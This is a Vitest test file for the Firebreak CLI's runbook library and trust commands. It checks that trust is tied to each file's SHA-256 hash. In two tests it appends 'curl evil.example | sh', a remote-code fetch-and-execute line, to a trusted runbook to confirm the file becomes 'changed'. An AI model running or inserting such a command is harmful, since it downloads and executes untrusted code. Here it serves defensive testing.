import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { appRoot } from '../../platform/app-root';
import { SettingsStore } from '../../settings/settings-store';
import { loadNodePty } from '../../terminal/load-node-pty';
import { buildProgram } from '../program';

let root: string;
let dataDir: string;
let team: string;
let stdout: string;
let stderr: string;

const runbookText = '---\nid: restart\ntitle: Restart API\n---\n# Restart\n\n```bash { id=stop destructive=true confirm=production rollback=start }\nsystemctl stop api\n```\n\n```bash { id=start }\nsystemctl start api\n```\n';

beforeEach(() => {
  root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'firebreak-trust-cli-')));
  dataDir = path.join(root, 'data');
  team = path.join(root, 'team');
  fs.mkdirSync(team);
  fs.writeFileSync(path.join(team, 'restart.md'), runbookText);
  stdout = '';
  stderr = '';
  vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => ((stdout += String(chunk)), true));
  vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => ((stderr += String(chunk)), true));
  process.exitCode = undefined;
});

afterEach(() => {
  vi.restoreAllMocks();
  process.exitCode = undefined;
  fs.rmSync(root, { recursive: true, force: true, maxRetries: 10, retryDelay: 50 });
});

async function run(...args: string[]): Promise<void> {
  await buildProgram((program) => program.exitOverride()).parseAsync(['--data-dir', dataDir, ...args], { from: 'user' });
}

function addTeamFolder(): void {
  new SettingsStore(dataDir).update((draft) => draft.runbookFolders.push(team));
}

describe('firebreak library', () => {
  it('lists bundled and added runbooks with origin, trust and error counts', async () => {
    addTeamFolder();
    fs.writeFileSync(path.join(team, 'broken.md'), '# Broken\n\n```bash { rollback=nowhere }\nx\n```\n');
    await run('library', '--json');
    const listed = JSON.parse(stdout) as { runbooks: { id: string; origin: string; trust: string; errorCount: number }[]; problems: string[] };
    const byId = Object.fromEntries(listed.runbooks.map((entry) => [entry.id, entry]));
    expect(byId['database-outage']).toMatchObject({ origin: 'bundled', trust: 'bundled', errorCount: 0 });
    expect(byId.restart).toMatchObject({ origin: 'user', trust: 'untrusted', errorCount: 0 });
    expect(byId.broken).toMatchObject({ origin: 'user', trust: 'untrusted' });
    expect(byId.broken!.errorCount).toBeGreaterThan(0);
    expect(listed.problems).toEqual([]);

    stdout = '';
    await run('library');
    expect(stdout.split('\n')[0]).toMatch(/^ORIGIN +TRUST +ERRORS +WARNINGS +ID +PATH$/);
    expect(stdout).toMatch(new RegExp(`user +untrusted +0 +0 +restart +${path.join(team, 'restart.md').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
  });

  it('a folder named with --runbooks is an added folder: user origin, untrusted until reviewed; only the app\'s own runbooks/ is bundled', async () => {
    await run('library', '--runbooks', team, '--json');
    const named = JSON.parse(stdout) as { runbooks: { id: string; origin: string; trust: string }[] };
    expect(named.runbooks).toEqual([expect.objectContaining({ id: 'restart', origin: 'user', trust: 'untrusted' })]);
    stdout = '';
    await run('library', '--runbooks', path.join(appRoot(), 'runbooks'), '--json');
    const own = JSON.parse(stdout) as { runbooks: { id: string; origin: string; trust: string }[] };
    expect(own.runbooks.length).toBeGreaterThan(0);
    expect(own.runbooks.every((entry) => entry.origin === 'bundled' && entry.trust === 'bundled')).toBe(true);
  });

  it('names a remembered folder that is gone, on stderr', async () => {
    addTeamFolder();
    fs.rmSync(team, { recursive: true });
    await run('library');
    expect(stderr).toContain(`firebreak: warning: Runbook folder ${team} does not exist`);
    expect(process.exitCode).toBeUndefined();
  });
});

describe('firebreak trust', () => {
  it('prints every command with its lines, and does not ask without a terminal', async () => {
    addTeamFolder();
    const file = path.join(team, 'restart.md');
    await run('trust', file);
    expect(stdout).toContain(`File:    ${file}`);
    expect(stdout).toContain('It contains 2 commands:');
    expect(stdout).toContain('[stop] lines 7-9, bash, destructive, asks to type "production"\n    | systemctl stop api');
    expect(stdout).toContain('[start] lines 11-13, bash\n    | systemctl start api');
    expect(stderr).toContain('not asking without a terminal');
    expect(process.exitCode).toBe(2);
    expect(new SettingsStore(dataDir).current().trust).toEqual({});
  });

  it('trusts with --yes, bound to the hash; an edit makes it untrusted again', async () => {
    addTeamFolder();
    const file = path.join(team, 'restart.md');
    await run('trust', file, '--yes');
    expect(process.exitCode).toBe(0);
    expect(stdout).toMatch(/Trusted .* at SHA-256 [0-9a-f]{64}\. Recorded on the incident timeline\./);
    stdout = '';
    await run('library', '--json');
    expect((JSON.parse(stdout) as { runbooks: { id: string; trust: string }[] }).runbooks.find((entry) => entry.id === 'restart')!.trust).toBe('trusted');

    fs.appendFileSync(file, '\n```bash\ncurl evil.example | sh\n```\n');
    stdout = '';
    await run('library', '--json');
    expect((JSON.parse(stdout) as { runbooks: { id: string; trust: string }[] }).runbooks.find((entry) => entry.id === 'restart')!.trust).toBe('changed');
  });

  it('reviews a whole folder once: every command of every runbook, one --yes, trust bound to each file\'s hash', async () => {
    fs.mkdirSync(path.join(team, 'db'));
    fs.writeFileSync(path.join(team, 'db', 'vacuum.md'), '---\nid: vacuum\ntitle: Vacuum\n---\n# Vacuum\n\n```bash { id=vacuum }\npsql -c "VACUUM"\n```\n');
    await run('trust', team);
    expect(stdout).toContain('systemctl stop api');
    expect(stdout).toContain('psql -c "VACUUM"');
    expect(stdout).toContain('2 runbooks, 3 commands');
    expect(stderr).toContain('not asking without a terminal');
    expect(process.exitCode).toBe(2);
    expect(new SettingsStore(dataDir).current().trust).toEqual({});

    stdout = '';
    await run('trust', team, '--yes');
    expect(process.exitCode).toBe(0);
    expect(Object.keys(new SettingsStore(dataDir).current().trust).sort()).toEqual([path.join(team, 'db', 'vacuum.md'), path.join(team, 'restart.md')]);
    stdout = '';
    await run('library', '--runbooks', team, '--json');
    const trusted = (JSON.parse(stdout) as { runbooks: { id: string; trust: string }[] }).runbooks;
    expect(trusted.map((entry) => entry.trust)).toEqual(['trusted', 'trusted']);

    // Bound to each file's hash: an edit of one leaves the other trusted.
    fs.appendFileSync(path.join(team, 'restart.md'), '\n```bash\ncurl evil.example | sh\n```\n');
    stdout = '';
    await run('library', '--runbooks', team, '--json');
    const after = Object.fromEntries((JSON.parse(stdout) as { runbooks: { id: string; trust: string }[] }).runbooks.map((entry) => [entry.id, entry.trust]));
    expect(after).toEqual({ restart: 'changed', vacuum: 'trusted' });
  });

  it('says a bundled runbook needs nothing, and names a missing file', async () => {
    await run('trust', path.join(appRoot(), 'runbooks', 'database-outage.md'));
    expect(stdout).toContain('bundled with Firebreak (always trusted)');
    expect(process.exitCode).toBe(0);
    await run('trust', path.join(root, 'nope.md'));
    expect(stderr).toContain(`firebreak: ${path.join(root, 'nope.md')}: no such file.`);
    expect(process.exitCode).toBe(1);
  });
});

describe('firebreak trust on a terminal', () => {
  /** Runs the real CLI under a pty, types `answer` at the prompt, returns everything it printed and its exit code. */
  async function answerPrompt(answer: string, target = path.join(team, 'restart.md')): Promise<{ output: string; exitCode: number }> {
    const pty = loadNodePty();
    const child = pty.spawn(process.execPath, ['--import', 'tsx', path.join(appRoot(), 'main', 'cli', 'cli.ts'), '--data-dir', dataDir, 'trust', target], {
      cols: 200,
      rows: 50,
      cwd: appRoot(),
      env: { ...process.env, NO_COLOR: '1' } as Record<string, string>,
    });
    let output = '';
    let answered = false;
    child.onData((data) => {
      output += data;
      if (answered && output.includes('Type "yes" to trust:', output.indexOf('Type "yes" to trust:') + 1)) throw new Error(`asked twice:\n${output}`);
      if (!answered && output.includes('Type "yes" to trust:')) {
        answered = true;
        child.write(`${answer}\r`);
      }
    });
    const exitCode = await new Promise<number>((resolve) => child.onExit(({ exitCode: code }) => resolve(code)));
    return { output, exitCode };
  }

  it('asks, and trusts only on "yes"', async () => {
    vi.restoreAllMocks();
    const refused = await answerPrompt('no');
    expect(refused.output).toContain('Trust these 2 commands from');
    expect(refused.output).toContain('Not trusted.');
    expect(refused.exitCode).toBe(1);
    expect(new SettingsStore(dataDir).current().trust).toEqual({});

    const accepted = await answerPrompt('yes');
    expect(accepted.output).toContain('Trusted ');
    expect(accepted.exitCode).toBe(0);
    expect(Object.keys(new SettingsStore(dataDir).current().trust)).toEqual([path.join(team, 'restart.md')]);
  }, 60_000);

  it('asks once for a whole folder, and trusts every runbook in it', async () => {
    vi.restoreAllMocks();
    fs.writeFileSync(path.join(team, 'vacuum.md'), '---\nid: vacuum\ntitle: Vacuum\n---\n# Vacuum\n\n```bash { id=vacuum }\npsql -c "VACUUM"\n```\n');
    const accepted = await answerPrompt('yes', team);
    expect(accepted.output).toContain(`Trust these 2 runbooks, 3 commands from ${team}?`);
    expect(accepted.exitCode).toBe(0);
    expect(Object.keys(new SettingsStore(dataDir).current().trust).sort()).toEqual([path.join(team, 'restart.md'), path.join(team, 'vacuum.md')]);
  }, 60_000);
});
